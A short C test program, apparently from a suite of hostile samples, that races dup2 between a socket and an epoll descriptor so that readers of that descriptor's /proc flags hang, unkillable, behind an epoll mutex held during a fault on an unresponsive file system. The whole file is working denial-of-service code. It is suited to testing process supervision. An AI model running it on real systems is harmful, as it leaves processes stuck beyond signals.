/*
 * worker_hung_notify FILE HOST PORT - a worker with a filter binds a socket again and again while
 * another thread puts an epoll descriptor in its place, and back. Whoever asks /proc for the flags
 * of that number waits for the mutex of the epoll set, which a third thread has while FILE, of a
 * file system that does not answer, keeps it waiting; no signal ends that.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sys/epoll.h>
#include <sys/mman.h>

#include "hostile.h"

#define BINDS 300

static int epoll_fd, spare_fd, number;

static void *hold_mutex(void *events)
{
    epoll_wait(epoll_fd, events, 1, -1);
    return NULL;
}

static void *exchange(void *unused)
{
    (void)unused;
    for (unsigned i = 0;; i++) {
        dup2(epoll_fd, number);
        usleep(i % 400);
        dup2(spare_fd, number);
        usleep(i % 300);
    }
    return NULL;
}

int main(int argc, char **argv)
{
    struct epoll_event event = {.events = EPOLLIN};
    struct sockaddr_in where = {.sin_family = AF_INET};
    pthread_t thread;
    int ready[2];

    if (argc < 4 || inet_pton(AF_INET, argv[2], &where.sin_addr) != 1 || pipe(ready) < 0 ||
        write(ready[1], "", 1) != 1)
        return 2;
    where.sin_port = htons((uint16_t)atoi(argv[3]));
    int file_fd = open(argv[1], O_RDONLY);
    void *events = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, file_fd, 0);
    epoll_fd = epoll_create1(0);
    if (file_fd < 0 || events == MAP_FAILED ||
        epoll_ctl(epoll_fd, EPOLL_CTL_ADD, ready[0], &event) < 0)
        die(argv[1]);
    number = socket(AF_INET, SOCK_STREAM, 0);
    pthread_create(&thread, NULL, hold_mutex, events);
    sleep(1);
    puts("attacks");
    fflush(stdout);
    for (int i = 0; i < BINDS; i++) {
        spare_fd = socket(AF_INET, SOCK_STREAM, 0);
        dup2(spare_fd, number);
        if (i == 0)
            pthread_create(&thread, NULL, exchange, NULL);
        bind(number, (struct sockaddr *)&where, sizeof where);
        close(spare_fd);
    }
    puts("done");
    fflush(stdout);
    for (;;)
        pause();
}
